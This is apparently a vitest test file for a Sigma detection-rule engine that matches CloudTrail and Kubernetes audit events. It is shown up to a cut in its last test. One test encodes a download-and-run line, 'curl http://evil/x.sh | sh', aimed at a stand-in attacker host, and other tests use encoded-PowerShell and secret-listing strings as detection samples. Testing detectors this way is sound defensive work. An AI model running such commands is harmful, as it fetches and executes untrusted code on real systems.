import { describe, expect, it } from 'vitest';
import type { SeamEvent } from '../../core/envelope.ts';
import { normalizeRecord } from '../../core/normalize/normalize.ts';
import { RuntimeEvent } from '../../core/schemas/runtime.ts';
import { RUNTIME_FIELD_MAP } from './logsource.ts';
import { loadRulesFromText } from './ruleset.ts';
import { exclusionShaped } from './validate.ts';

const ingest = { collector: 'test', received_at: '2026-01-01T00:00:00Z', truncated: false, redacted: [] };

function ct(fields: Record<string, unknown>): SeamEvent {
  return {
    '@timestamp': '2026-03-04T05:06:07Z',
    eventVersion: '1.09',
    userIdentity: {
      type: 'AssumedRole',
      arn: 'arn:aws:sts::123456789012:assumed-role/eks-admin/alice',
      sessionContext: { sessionIssuer: { type: 'Role', arn: 'arn:aws:iam::123456789012:role/eks-admin', userName: 'eks-admin' } },
    },
    eventTime: '2026-03-04T05:06:07Z',
    eventSource: 'iam.amazonaws.com',
    eventName: 'CreateAccessKey',
    awsRegion: 'us-east-1',
    sourceIPAddress: '203.0.113.7',
    userAgent: 'aws-cli/2.15.0 Python/3.11.6',
    requestParameters: { userName: 'bob' },
    ...fields,
    seam: { id: 'e1', source: 'cloudtrail', ingest },
  } as SeamEvent;
}

function audit(fields: Record<string, unknown>): SeamEvent {
  return {
    '@timestamp': '2026-03-04T05:06:07Z',
    kind: 'Event',
    apiVersion: 'audit.k8s.io/v1',
    level: 'Metadata',
    auditID: 'a1',
    stage: 'ResponseComplete',
    requestURI: '/api/v1/namespaces/kube-system/pods',
    verb: 'create',
    user: { username: 'kubernetes-admin', groups: ['system:masters', 'system:authenticated'] },
    sourceIPs: ['10.1.2.3'],
    objectRef: { resource: 'pods', namespace: 'kube-system', name: 'kube-proxy-x1', apiVersion: 'v1' },
    responseStatus: { code: 201 },
    ...fields,
    seam: { id: 'a1', source: 'k8s_audit', ingest },
  } as SeamEvent;
}

/** A CloudTrail rule with the given detection body (indented YAML). */
function ctRule(detection: string, extra = ''): string {
  return `title: Test rule
id: 11111111-2222-4333-8444-555555555555
status: test
logsource:
    product: aws
    service: cloudtrail
detection:
${detection}
level: high
${extra}`;
}

function matches(detection: string, event: SeamEvent, opts = {}): boolean {
  const { ruleset, diagnostics } = loadRulesFromText(ctRule(detection), 'r.yml', opts);
  const errors = diagnostics.filter((d) => d.severity === 'error');
  if (errors.length) throw new Error(errors.map((e) => `${e.line}:${e.column} ${e.code} ${e.message}`).join('; '));
  expect(ruleset.rules).toHaveLength(1);
  return ruleset.match(event).length === 1;
}

describe('field matching', () => {
  it('maps are AND, lists are OR, case-insensitive by default', () => {
    const d = `    sel:
        eventSource: IAM.amazonaws.com
        eventName:
            - CreateUser
            - createaccesskey
    condition: sel`;
    expect(matches(d, ct({}))).toBe(true);
    expect(matches(d, ct({ eventName: 'DeleteUser' }))).toBe(false);
    expect(matches(d, ct({ eventSource: 's3.amazonaws.com' }))).toBe(false);
  });

  it('lists of maps are OR', () => {
    const d = `    sel:
        - eventName: DeleteTrail
        - requestParameters.userName: bob
    condition: sel`;
    expect(matches(d, ct({}))).toBe(true);
    expect(matches(d, ct({ requestParameters: { userName: 'carol' } }))).toBe(false);
  });

  it('resolves nested paths, literal dotted keys and arrays', () => {
    const d = `    sel:
        userIdentity.sessionContext.sessionIssuer.arn|endswith: ':role/eks-admin'
    condition: sel`;
    expect(matches(d, ct({}))).toBe(true);
    const lit = `    sel:
        objectRef.resource: secrets
    condition: sel`;
    expect(matches(lit, ct({ 'objectRef.resource': 'secrets' }))).toBe(true);
    const arr = `    sel:
        resources.ARN|contains: 'bucket-b'
    condition: sel`;
    expect(matches(arr, ct({ resources: [{ ARN: 'arn:aws:s3:::bucket-a' }, { ARN: 'arn:aws:s3:::bucket-b' }] }))).toBe(true);
    expect(matches(arr, ct({ resources: [{ ARN: 'arn:aws:s3:::bucket-a' }] }))).toBe(false);
  });

  it('numbers and strings compare sensibly', () => {
    const d = `    sel:
        responseStatus.code: 403
    condition: sel`;
    expect(matches(d, ct({ responseStatus: { code: 403 } }))).toBe(true);
    expect(matches(d, ct({ responseStatus: { code: '403' } }))).toBe(true);
    expect(matches(d, ct({ responseStatus: { code: 4030 } }))).toBe(false);
    const s = `    sel:
        responseStatus.code: '403'
    condition: sel`;
    expect(matches(s, ct({ responseStatus: { code: 403 } }))).toBe(true);
  });

  it('a number in the rule matches decimal spellings of it, not hex, octal, binary or padded text (docs/writing-rules.md)', () => {
    const d = `    sel:
        requestParameters.port: 16
    condition: sel`;
    const port = (p: unknown): SeamEvent => ct({ requestParameters: { port: p } });
    for (const p of [16, '16', '016', '16.0', '+16', '1.6e1']) expect(matches(d, port(p)), JSON.stringify(p)).toBe(true);
    // Number() reads these as 16 too; Sigma compares numbers, and "0x10" in a log is text, not a spelling of 16.
    for (const p of ['0x10', '0o20', '0b10000', ' 16', '16 ', '', 'sixteen']) expect(matches(d, port(p)), JSON.stringify(p)).toBe(false);
    // A quoted value is text: '5' matches 5 and '5', not '05'.
    const q = `    sel:
        requestParameters.port: '5'
    condition: sel`;
    expect(matches(q, port(5))).toBe(true);
    expect(matches(q, port('05'))).toBe(false);
    // Comparisons read the event value the same way.
    const gt = `    sel:
        requestParameters.port|gt: 15
    condition: sel`;
    expect(matches(gt, port('016'))).toBe(true);
    expect(matches(gt, port('0x10'))).toBe(false);
  });

  it('null means missing or null; empty string means empty', () => {
    const d = `    sel:
        eventName: CreateAccessKey
    nul:
        errorCode: null
    condition: sel and nul`;
    expect(matches(d, ct({}))).toBe(true);
    expect(matches(d, ct({ errorCode: null }))).toBe(true);
    expect(matches(d, ct({ errorCode: 'AccessDenied' }))).toBe(false);
    const e = `    sel:
        errorMessage: ''
    condition: sel`;
    expect(matches(e, ct({ errorMessage: '' }))).toBe(true);
    expect(matches(e, ct({}))).toBe(false);
    expect(matches(e, ct({ errorMessage: 'x' }))).toBe(false);
  });

  it("a blank errorCode is removed at normalization: errorCode: '' never matches, errorCode|exists: false does (docs/writing-rules.md)", () => {
    const raw = { eventSource: 'iam.amazonaws.com', eventName: 'CreateAccessKey', eventTime: '2026-03-04T05:06:07Z', userIdentity: { type: 'IAMUser', arn: 'arn:aws:iam::111122223333:user/bob' }, errorCode: '' };
    const meta = { collector: 'file', receivedAt: '2026-03-04T05:07:00Z', origin: 'test' };
    const r = normalizeRecord(raw, meta);
    if (!r.ok) throw new Error(r.error.message);
    const blank = `    sel:
        errorCode: ''
    condition: sel`;
    const absent = `    sel:
        errorCode|exists: false
    condition: sel`;
    expect(matches(blank, r.value)).toBe(false);
    expect(matches(absent, r.value)).toBe(true);
    const denied = normalizeRecord({ ...raw, errorCode: 'AccessDenied' }, meta);
    if (!denied.ok) throw new Error(denied.error.message);
    expect(matches(absent, denied.value)).toBe(false);
  });

  it('a not-filter on an object field drops events where any value inside it matches; name the nested field (docs/writing-rules.md)', () => {
    const put = (userName: string, policyName: string): SeamEvent =>
      ct({ eventName: 'PutUserPolicy', requestParameters: { userName, policyName, policyDocument: '{"Statement":[]}' } });
    const loose = `    sel:
        eventName: PutUserPolicy
    filter_ci:
        requestParameters: deploy
    condition: sel and not filter_ci`;
    expect(matches(loose, put('deploy', 'ci'))).toBe(false);
    // Meant to drop the CI user 'deploy' only, it also drops mallory's inline policy named "deploy".
    expect(matches(loose, put('mallory', 'deploy'))).toBe(false);
    const exact = loose.replace('requestParameters: deploy', 'requestParameters.userName: deploy');
    expect(matches(exact, put('deploy', 'ci'))).toBe(false);
    expect(matches(exact, put('mallory', 'deploy'))).toBe(true);
  });
});

describe('wildcards and escaping', () => {
  const rule = (v: string): string => `    sel:
        userAgent: '${v}'
    condition: sel`;
  it('* and ? are wildcards', () => {
    expect(matches(rule('aws-cli/*'), ct({}))).toBe(true);
    expect(matches(rule('*python/3.11.?'), ct({}))).toBe(true);
    expect(matches(rule('aws-?li*3.11.6'), ct({}))).toBe(true);
    expect(matches(rule('aws-cli'), ct({}))).toBe(false);
  });
  it('backslash escapes wildcards and itself; plain backslashes stay', () => {
    expect(matches(rule('a\\*b'), ct({ userAgent: 'a*b' }))).toBe(true);
    expect(matches(rule('a\\*b'), ct({ userAgent: 'axxb' }))).toBe(false);
    expect(matches(rule('a\\?'), ct({ userAgent: 'a?' }))).toBe(true);
    expect(matches(rule('C:\\Windows\\*'), ct({ userAgent: 'C:\\Windows\\x.exe' }))).toBe(false); // `\*` is a literal star
    expect(matches(rule('C:\\Windows\\\\*'), ct({ userAgent: 'C:\\Windows\\x.exe' }))).toBe(true); // `\\*` = backslash + wildcard
    expect(matches(rule('C:\\Tools\\x.exe'), ct({ userAgent: 'C:\\Tools\\x.exe' }))).toBe(true);
    expect(matches(rule('a\\\\\\*'), ct({ userAgent: 'a\\*' }))).toBe(true); // three backslashes + star
  });
});

describe('modifiers', () => {
  const one = (key: string, value: string, ev: SeamEvent): boolean =>
    matches(`    sel:
        ${key}: ${value}
    condition: sel`, ev);

  it('contains, startswith, endswith, all', () => {
    expect(one('userAgent|contains', "'CLI/2'", ct({}))).toBe(true);
    expect(one('userAgent|startswith', "'aws-cli'", ct({}))).toBe(true);
    expect(one('userAgent|endswith', "'3.11.6'", ct({}))).toBe(true);
    expect(one('userAgent|endswith', "'aws'", ct({}))).toBe(false);
    expect(one('userAgent|contains|all', "['aws-cli', 'python']", ct({}))).toBe(true);
    expect(one('userAgent|contains|all', "['aws-cli', 'boto']", ct({}))).toBe(false);
  });
  it('cased', () => {
    expect(one('eventName|cased', 'CreateAccessKey', ct({}))).toBe(true);
    expect(one('eventName|cased', 'createaccesskey', ct({}))).toBe(false);
    expect(one('userAgent|contains|cased', "'Python'", ct({}))).toBe(true);
    expect(one('userAgent|contains|cased', "'PYTHON'", ct({}))).toBe(false);
  });
  it('exists', () => {
    expect(one('errorCode|exists', 'true', ct({ errorCode: null }))).toBe(true);
    expect(one('errorCode|exists', 'true', ct({}))).toBe(false);
    expect(one('errorCode|exists', 'false', ct({}))).toBe(true);
  });
  it('exists is presence "be it empty or null": [], {}, [null], a nested [] and a literal dotted key count', () => {
    for (const tags of [[], {}, [null], [[]]]) {
      expect(one('requestParameters.tags|exists', 'true', ct({ requestParameters: { tags } })), JSON.stringify(tags)).toBe(true);
      expect(one('requestParameters.tags|exists', 'false', ct({ requestParameters: { tags } })), JSON.stringify(tags)).toBe(false);
    }
    expect(one('tags|exists', 'true', ct({ tags: [] }))).toBe(true);
    expect(one('requestParameters.tags|exists', 'true', ct({ 'requestParameters.tags': [] }))).toBe(true);
    expect(one('requestParameters.tags|exists', 'true', ct({ requestParameters: [{ other: 1 }, { tags: [] }] }))).toBe(true);
    // Not there: missing key, parent null or an empty array of parents.
    for (const requestParameters of [{ other: [] }, null, []]) {
      expect(one('requestParameters.tags|exists', 'true', ct({ requestParameters })), JSON.stringify(requestParameters)).toBe(false);
      expect(one('requestParameters.tags|exists', 'false', ct({ requestParameters })), JSON.stringify(requestParameters)).toBe(true);
    }
  });
  it('null matches a missing field, null, [] and [null] (no value in it), not {} nor a value', () => {
    for (const tags of [undefined, null, [], [null]]) expect(one('requestParameters.tags', 'null', ct({ requestParameters: { tags } })), JSON.stringify(tags)).toBe(true);
    for (const tags of [{}, ['a'], [null, 'a'], '']) expect(one('requestParameters.tags', 'null', ct({ requestParameters: { tags } })), JSON.stringify(tags)).toBe(false);
  });
  it('neq', () => {
    expect(one('awsRegion|neq', 'us-east-1', ct({}))).toBe(false);
    expect(one('awsRegion|neq', 'eu-west-1', ct({}))).toBe(true);
    expect(one('awsRegion|neq', '[eu-west-1, us-east-1]', ct({}))).toBe(false);
    expect(one('missing|neq', 'x', ct({}))).toBe(false);
  });
  it('re with i, m, s sub-modifiers', () => {
    expect(one('userAgent|re', "'^aws-cli/2\\.\\d+'", ct({}))).toBe(true);
    expect(one('userAgent|re', "'^AWS-CLI'", ct({}))).toBe(false);
    expect(one('userAgent|re|i', "'^AWS-CLI'", ct({}))).toBe(true);
    expect(one('userAgent|re', "'(?i)^AWS-CLI'", ct({}))).toBe(true);
    expect(one('msg|re', "'^b$'", ct({ msg: 'a\nb' }))).toBe(false);
    expect(one('msg|re|m', "'^b$'", ct({ msg: 'a\nb' }))).toBe(true);
    expect(one('msg|re', "'a.b'", ct({ msg: 'a\nb' }))).toBe(false);
    expect(one('msg|re|s', "'a.b'", ct({ msg: 'a\nb' }))).toBe(true);
  });
  it('re: warns (and still loads) where another flavour\'s \\A, \\Z, \\z or a POSIX class would be read as letters', () => {
    const warnings = (value: string): string[] =>
      loadRulesFromText(ctRule(`    sel:\n        eventName|re: '${value}'\n    condition: sel`), 'r.yml')
        .diagnostics.map((d) => `${d.severity} ${d.code} ${d.line}:${d.column} ${d.message}`);
    expect(warnings('\\AList')).toEqual([expect.stringMatching(/^warning SEAM_ERR_RULE_REGEX 9:24 '\\A' \(PCRE start of input: write \^\) is not in Sigma's regex flavour/)]);
    expect(warnings('Users\\Z')).toEqual([expect.stringContaining("'\\Z' (PCRE end of input: write $)")]);
    expect(warnings('Users\\z')).toEqual([expect.stringContaining("'\\z'")]);
    expect(warnings('^[[:alpha:]]+$')).toEqual([expect.stringContaining("POSIX class '[:alpha:]'")]);
    // An escaped backslash before the letter, a colon in a plain class, and the spec's own metacharacters are fine.
    for (const ok of ['C:\\\\Apps', '[a-z:]+', '^List(Users|Roles)?$', '[^:]{1,3}']) expect(warnings(ok), ok).toEqual([]);
    // JavaScript does read them as letters (PCRE would match both): the rule does not mean what it says.
    expect(one('eventName|re', "'\\AList'", ct({ eventName: 'ListUsers' }))).toBe(false);
    expect(one('eventName|re', "'^[[:alpha:]]+$'", ct({ eventName: 'ListUsers' }))).toBe(false);
  });
  it('re: the warning points at the metacharacter itself, whatever the quoting (fast and full YAML reader)', () => {
    // Each value as written after `eventName|re: `, and what the warning's column must point at.
    const cases: [string, string][] = [
      ['\\AList', '\\A'],
      ["'\\AList'", '\\A'],
      ["'it''s\\z'", '\\z'],
      ['"\\\\AList"', '\\\\A'],
      ['"C:\\\\x\\\\z"', '\\\\z'],
      ["'^[[:alpha:]]+$'", '[:alpha:]'],
    ];
    // `tags: [...]` (a flow collection) leaves the file to the `yaml` package instead of the fast reader.
    for (const extra of ['', 'tags: [attack.discovery]']) {
      for (const [written, at] of cases) {
        const line = `        eventName|re: ${written}`;
        const d = loadRulesFromText(ctRule(`    sel:\n${line}\n    condition: sel`, extra), 'r.yml').diagnostics;
        expect(d.map((x) => `${x.code} ${x.line}`), `${written} ${extra}`).toEqual(['SEAM_ERR_RULE_REGEX 9']);
        expect(line.slice(d[0]!.column - 1, d[0]!.column - 1 + at.length), `${written} ${extra}`).toBe(at);
      }
    }
  });
  it('base64 and base64offset', () => {
    const b64 = Buffer.from('kubectl get secrets').toString('base64');
    expect(one('data|base64', "'kubectl get secrets'", ct({ data: b64 }))).toBe(true);
    for (const prefix of ['', 'x', 'xy', 'xyz']) {
      const blob = Buffer.from(`${prefix}curl http://evil/x.sh | sh; done`).toString('base64');
      expect(one('data|base64offset|contains', "'http://evil/'", ct({ data: blob }))).toBe(true);
    }
    const other = Buffer.from('curl http://good/x.sh').toString('base64');
    expect(one('data|base64offset|contains', "'http://evil/'", ct({ data: other }))).toBe(false);
  });
  it('utf16le / wide / utf16be / utf16', () => {
    const le = Buffer.from('cmd', 'utf16le').toString('latin1');
    expect(one('data|utf16le', 'cmd', ct({ data: le }))).toBe(true);
    expect(one('data|wide', 'cmd', ct({ data: le }))).toBe(true);
    expect(one('data|utf16be', 'cmd', ct({ data: '\0c\0m\0d' }))).toBe(true);
    expect(one('data|utf16', 'cmd', ct({ data: '\xff\xfe' + le }))).toBe(true);
    const wideB64 = Buffer.from('xxpowershell -enc', 'utf16le').toString('base64');
    expect(one('data|wide|base64offset|contains', "'powershell'", ct({ data: wideB64 }))).toBe(true);
  });
  it('windash', () => {
    for (const dash of ['-', '/', '\u2013', '\u2014', '\u2015']) {
      expect(one('cmd|windash|contains', "' -enc '", ct({ cmd: `powershell ${dash}enc AAAA` }))).toBe(true);
    }
    expect(one('cmd|windash|contains', "' -enc '", ct({ cmd: 'powershell +enc AAAA' }))).toBe(false);
  });
  it('an object-valued field offers the scalars inside it (as flat_object does when hunting)', () => {
    const versioning = ct({ requestParameters: { bucketName: 'logs', VersioningConfiguration: { Status: 'Suspended', MfaDelete: ['Disabled'] } } });
    expect(one('requestParameters|contains', "'Suspended'", versioning)).toBe(true);
    expect(one('requestParameters', "'logs'", versioning)).toBe(true);
    expect(one('requestParameters|contains', "'Disabled'", versioning)).toBe(true);
    expect(one('requestParameters|contains', "'Enabled'", versioning)).toBe(false);
    expect(one('requestParameters|exists', 'true', versioning)).toBe(true);
    // The object is not null, and a null inside it does not make it null.
    expect(one('requestParameters', 'null', ct({ requestParameters: { roleName: null } }))).toBe(false);
  });

  it('cidr (IPv4 and IPv6)', () => {
    expect(one('sourceIPAddress|cidr', "'203.0.113.0/24'", ct({}))).toBe(true);
    expect(one('sourceIPAddress|cidr', "'10.0.0.0/8'", ct({}))).toBe(false);
    expect(one('sourceIPAddress|cidr', "['10.0.0.0/8', '203.0.0.0/16']", ct({}))).toBe(true);
    expect(one('sourceIPAddress|cidr', "'2001:db8::/32'", ct({ sourceIPAddress: '2001:db8:0:1::5' }))).toBe(true);
    expect(one('sourceIPAddress|cidr', "'2001:db8::/32'", ct({ sourceIPAddress: '2001:db9::5' }))).toBe(false);
    expect(one('sourceIPAddress|cidr', "'fe80::/10'", ct({ sourceIPAddress: 'iam.amazonaws.com' }))).toBe(false);
    // Compressed against full spelling, odd prefixes, IPv4-mapped addresses (src/core/ip.ts).
    expect(one('sourceIPAddress|cidr', "'2001:0db8:0000:0000::/64'", ct({ sourceIPAddress: '2001:db8::1' }))).toBe(true);
    expect(one('sourceIPAddress|cidr', "'2001:db8:1000::/36'", ct({ sourceIPAddress: '2001:db8:1fff::9' }))).toBe(true);
    expect(one('sourceIPAddress|cidr', "'2001:db8:1000::/36'", ct({ sourceIPAddress: '2001:db8:2000::9' }))).toBe(false);
    expect(one('sourceIPAddress|cidr', "'10.0.0.0/8'", ct({ sourceIPAddress: '::ffff:10.20.30.40' }))).toBe(true);
    expect(one('sourceIPAddress|cidr', "'10.0.0.0/8'", ct({ sourceIPAddress: '::ffff:11.20.30.40' }))).toBe(false);
  });
  it('lt, lte, gt, gte', () => {
    expect(one('responseStatus.code|gte', '400', ct({ responseStatus: { code: 403 } }))).toBe(true);
    expect(one('responseStatus.code|lt', '400', ct({ responseStatus: { code: '403' } }))).toBe(false);
    expect(one('responseStatus.code|lte', '403', ct({ responseStatus: { code: 403 } }))).toBe(true);
    expect(one('responseStatus.code|gt', '403', ct({ responseStatus: { code: 403 } }))).toBe(false);
  });
  it('time parts', () => {
    // @timestamp 2026-03-04T05:06:07Z: a Wednesday in ISO week 10.
    expect(one('eventTime|hour', '5', ct({}))).toBe(true);
    expect(one('eventTime|minute', '6', ct({}))).toBe(true);
    expect(one('eventTime|day', '4', ct({}))).toBe(true);
    expect(one('eventTime|month', '3', ct({}))).toBe(true);
    expect(one('eventTime|year', '2026', ct({}))).toBe(true);
    expect(one('eventTime|week', '10', ct({}))).toBe(true);
    expect(one('eventTime|hour|gte', '9', ct({}))).toBe(false);
  });
  it('expand with configured placeholders; unknown placeholders load and match nothing', () => {
    const d = `    sel:
        sourceIPAddress|expand: '%admin_ips%'
    condition: sel`;
    expect(matches(d, ct({}), { placeholders: { admin_ips: ['198.51.100.1', '203.0.113.*'] } })).toBe(true);
    expect(matches(d, ct({}), { placeholders: { admin_ips: ['198.51.100.1'] } })).toBe(false);
    const { ruleset, diagnostics } = loadRulesFromText(ctRule(d), 'r.yml');
    expect(ruleset.rules).toHaveLength(1);
    expect(diagnostics).toEqual([expect.objectContaining({ code: 'SEAM_ERR_RULE_PLACEHOLDER', severity: 'warning', line: 9, column: 33 })]);
    expect(ruleset.match(ct({}))).toHaveLength(0);
    const esc = `    sel:
        userAgent|expand: '\\%plain%tool%'
    condition: sel`;
    expect(matches(esc, ct({ userAgent: '%plaincurl' }), { placeholders: { tool: ['curl'] } })).toBe(true);
  });
  it("expand keeps the rule's own wildcards around a placeholder; values are patterns as written", () => {
    const arn = (a: string) => ct({ userIdentity: { type: 'AssumedRole', arn: a } });
    const d = `    sel:
        userIdentity.arn|expand: 'arn:aws:sts::%acct%:assumed-role/dev/*'
    condition: sel`;
    const acct = { placeholders: { acct: ['111122223333', '444455556666'] } };
    expect(matches(d, arn('arn:aws:sts::111122223333:assumed-role/dev/bob'), acct)).toBe(true);
    expect(matches(d, arn('arn:aws:sts::444455556666:assumed-role/dev/carol'), acct)).toBe(true);
    // Near misses: another account, another role.
    expect(matches(d, arn('arn:aws:sts::999999999999:assumed-role/dev/bob'), acct)).toBe(false);
    expect(matches(d, arn('arn:aws:sts::111122223333:assumed-role/ops/bob'), acct)).toBe(false);
    // '?' and a leading '*' too; '\\*' in the rule's text stays a literal star.
    const q = `    sel:
        userIdentity.arn|expand: '*:%acct%:assumed-role/de?/*'
    condition: sel`;
    expect(matches(q, arn('arn:aws:sts::111122223333:assumed-role/dev/bob'), acct)).toBe(true);
    const lit = `    sel:
        userIdentity.arn|expand: 'arn:aws:sts::%acct%:assumed-role/dev/\\*'
    condition: sel`;
    expect(matches(lit, arn('arn:aws:sts::111122223333:assumed-role/dev/*'), acct)).toBe(true);
    expect(matches(lit, arn('arn:aws:sts::111122223333:assumed-role/dev/bob'), acct)).toBe(false);
    // A value's own wildcards are wildcards (the specification's "replaced with ... patterns"); its '\\*' is a star.
    const ns = `    sel:
        userIdentity.arn|expand: 'arn:aws:sts::111122223333:assumed-role/%roles%/bob'
    condition: sel`;
    expect(matches(ns, arn('arn:aws:sts::111122223333:assumed-role/dev-eu/bob'), { placeholders: { roles: ['dev-*'] } })).toBe(true);
    expect(matches(ns, arn('arn:aws:sts::111122223333:assumed-role/dev-eu/bob'), { placeholders: { roles: ['dev-\\*'] } })).toBe(false);
    // A value ending in a backslash keeps it literal, and the rule's '*' after it stays a wildcard.
    const bs = `    sel:
        userAgent|expand: '%dir%*'
    condition: sel`;
    expect(matches(bs, ct({ userAgent: 'C:\\tools\\curl.exe' }), { placeholders: { dir: ['C:\\tools\\'] } })).toBe(true);
  });
  it('cidr|expand and expand|cidr: a placeholder whose values are network ranges', () => {
    const nets = { placeholders: { corp_networks: ['198.51.100.0/24', '10.0.0.0/8', '2001:db8::/32'] } };
    for (const mods of ['cidr|expand', 'expand|cidr']) {
      const d = `    sel:
        sourceIPAddress|${mods}: '%corp_networks%'
    condition: sel`;
      expect(matches(d, ct({ sourceIPAddress: '198.51.100.7' }), nets)).toBe(true);
      expect(matches(d, ct({ sourceIPAddress: '10.20.30.40' }), nets)).toBe(true);
      expect(matches(d, ct({ sourceIPAddress: '2001:db8::1' }), nets)).toBe(true);
      // Near misses: the next /24, another network, a word.
      expect(matches(d, ct({ sourceIPAddress: '198.51.101.7' }), nets)).toBe(false);
      expect(matches(d, ct({ sourceIPAddress: '203.0.113.7' }), nets)).toBe(false);
      expect(matches(d, ct({ sourceIPAddress: 'eks.amazonaws.com' }), nets)).toBe(false);
      // Unset: loads with the placeholder warning and matches nothing; an empty list matches nothing too.
      const unset = loadRulesFromText(ctRule(d), 'r.yml');
      expect(unset.diagnostics).toEqual([expect.objectContaining({ code: 'SEAM_ERR_RULE_PLACEHOLDER', severity: 'warning' })]);
      expect(unset.ruleset.match(ct({ sourceIPAddress: '198.51.100.7' }))).toHaveLength(0);
      expect(matches(d, ct({ sourceIPAddress: '198.51.100.7' }), { placeholders: { corp_networks: [] } })).toBe(false);
    }
    // Text around the placeholder makes the range: '%net%/24'.
    const around = `    sel:
        sourceIPAddress|cidr|expand: '%net%/24'
    condition: sel`;
    expect(matches(around, ct({ sourceIPAddress: '198.51.100.9' }), { placeholders: { net: ['198.51.100.0'] } })).toBe(true);
  });
  it('cidr|expand rejects a placeholder value that is no range, naming the placeholder and the value', () => {
    const d = `    sel:
        sourceIPAddress|cidr|expand: '%corp_networks%'
    condition: sel`;
    for (const bad of ['10.0.0.*', 'corp-vpn', '10.0.0.0/33']) {
      const { ruleset, diagnostics } = loadRulesFromText(ctRule(d), 'r.yml', { placeholders: { corp_networks: ['198.51.100.0/24', bad] } });
      expect(ruleset.rules).toHaveLength(0);
      expect(diagnostics).toEqual([
        expect.objectContaining({
          code: 'SEAM_ERR_RULE_VALUE',
          severity: 'error',
          message: `placeholder %corp_networks% has the value '${bad}', which is not a CIDR range: with 'cidr', every value of the placeholder must be a network range such as 10.0.0.0/8, 198.51.100.7/32 or 2001:db8::/32 (no wildcards)`,
        }),
      ]);
    }
    // cidr with any other string modifier is still refused.
    const other = loadRulesFromText(ctRule(`    sel:
        sourceIPAddress|cidr|contains: '10.0.0.0/8'
    condition: sel`), 'r.yml');
    expect(other.diagnostics).toEqual([expect.objectContaining({ code: 'SEAM_ERR_RULE_MODIFIER', message: "modifiers 'cidr|contains' cannot be combined" })]);
  });
  it("warns that objectRef.apiGroup: '' never matches (the audit log omits the core group); null and exists: false match it", () => {
    const k8s = (det: string): string => ctRule(det).replace('product: aws\n    service: cloudtrail', 'product: kubernetes\n    service: audit');
    const secret = audit({ verb: 'delete', objectRef: { resource: 'secrets', namespace: 'payments', name: 'db', apiVersion: 'v1' } });
    const rbac = audit({ verb: 'delete', objectRef: { resource: 'secrets', apiGroup: 'example.io', namespace: 'payments', name: 'db' } });
    const empty = loadRulesFromText(k8s(`    sel:
        objectRef.apiGroup: ''
        verb: delete
    condition: sel`), 'r.yml');
    expect(empty.diagnostics).toEqual([
      expect.objectContaining({
        code: 'SEAM_ERR_RULE_VALUE',
        severity: 'warning',
        line: 9,
        message: "audit records leave 'objectRef.apiGroup' out for the core API group (pods, secrets, configmaps, services...), so '' never matches; write 'objectRef.apiGroup: null' or 'objectRef.apiGroup|exists: false' for the core group",
      }),
    ]);
    expect(empty.ruleset.match(secret)).toHaveLength(0);
    for (const v of ['null', '|exists: false']) {
      const det = v === 'null' ? '        objectRef.apiGroup: null' : '        objectRef.apiGroup|exists: false';
      const r = loadRulesFromText(k8s(`    sel:\n${det}\n        verb: delete\n    condition: sel`), 'r.yml');
      expect(r.diagnostics).toEqual([]);
      expect(r.ruleset.match(secret)).toHaveLength(1);
      expect(r.ruleset.match(rbac)).toHaveLength(0);
    }
  });
  it('fieldref (and with neq)', () => {
    expect(one('userIdentity.sessionContext.sessionIssuer.userName|fieldref', 'requestParameters.userName', ct({ requestParameters: { userName: 'EKS-admin' } }))).toBe(true);
    expect(one('userIdentity.sessionContext.sessionIssuer.userName|fieldref', 'requestParameters.userName', ct({}))).toBe(false);
    expect(one('userIdentity.sessionContext.sessionIssuer.userName|fieldref|neq', 'requestParameters.userName', ct({}))).toBe(true);
  });
});

describe('keywords', () => {
  it('search every string value of the raw record; |all makes them AND', () => {
    const d = `    keywords:
        - 'cli/2.15'
        - 'nothing-like-this'
    condition: keywords`;
    expect(matches(d, ct({}))).toBe(true);
    expect(matches(d, ct({ userAgent: 'boto3' }))).toBe(false);
    const all = `    keywords:
        '|all':
            - 'aws-cli'
            - 'CreateAccessKey'
    condition: keywords`;
    expect(matches(all, ct({}))).toBe(true);
    expect(matches(all, ct({ eventName: 'ListUsers' }))).toBe(false);
  });
  it('does not search the seam namespace', () => {
    const d = `    keywords:
        - 'e1'
    condition: keywords`;
    expect(matches(d, ct({}))).toBe(false);
  });
});

describe('conditions', () => {
  const base = `    sel_key:
        eventName: CreateAccessKey
    sel_user:
        requestParameters.userName: bob
    filter_region:
        awsRegion: eu-west-1
    _private:
        eventName: Nope
`;
  const cond = (c: string, ev = ct({})): boolean => matches(`${base}    condition: ${c}`, ev);
  it('and, or, not, parentheses and precedence', () => {
    expect(cond('sel_key and sel_user')).toBe(true);
    expect(cond('sel_key and not filter_region')).toBe(true);
    expect(cond('not sel_key or sel_user')).toBe(true); // (not sel_key) or sel_user
    expect(cond('not (sel_key or sel_user)')).toBe(false);
    expect(cond('filter_region or sel_key and sel_user')).toBe(true); // and binds tighter than or
    expect(cond('(filter_region or sel_key) and filter_region')).toBe(false);
    expect(cond('sel_key AND NOT filter_region')).toBe(true);
  });
  it('1 of / all of patterns and them', () => {
    expect(cond('all of sel_*')).toBe(true);
    expect(cond('all of sel_*', ct({ requestParameters: {} }))).toBe(false);
    expect(cond('1 of sel_*', ct({ requestParameters: {} }))).toBe(true);
    expect(cond('1 of filter*')).toBe(false);
    expect(cond('1 of them')).toBe(true);
    expect(cond('all of them')).toBe(false); // filter_region fails; _private is excluded either way
    expect(cond('all of sel_* and not 1 of filter_*')).toBe(true);
    expect(cond('all of *_user')).toBe(true);
  });
  it('a list of conditions is OR', () => {
    expect(matches(`${base}    condition:\n        - filter_region\n        - sel_user`, ct({}))).toBe(true);
  });
});

describe('Kubernetes audit rules', () => {
  const rule = `title: Creation Of Pod In System Namespace
id: 22222222-2222-4333-8444-555555555555
status: test
logsource:
    category: application
    product: kubernetes
    service: audit
detection:
    selection:
        verb: 'create'
        objectRef.resource: 'pods'
        objectRef.namespace: kube-system
    condition: selection
level: medium
`;
  it('match audit events only, by logsource', () => {
    const { ruleset } = loadRulesFromText(rule, 'k.yml');
    expect(ruleset.match(audit({}))).toHaveLength(1);
    expect(ruleset.match(audit({ verb: 'get' }))).toHaveLength(0);
    // The same fields on a CloudTrail event do not reach a Kubernetes rule.
    expect(ruleset.match(ct({ verb: 'create', objectRef: { resource: 'pods', namespace: 'kube-system' } }))).toHaveLength(0);
    expect(ruleset.indexStats().buckets.k8s_audit?.indexed).toBe(1);
  });
  it('rules for logsources Seam does not collect load but are not evaluated unless asked', () => {
    const win = `title: Whoami
id: 33333333-2222-4333-8444-555555555555
logsource:
    category: process_creation
    product: windows
detection:
    selection:
        verb: create
    condition: selection
`;
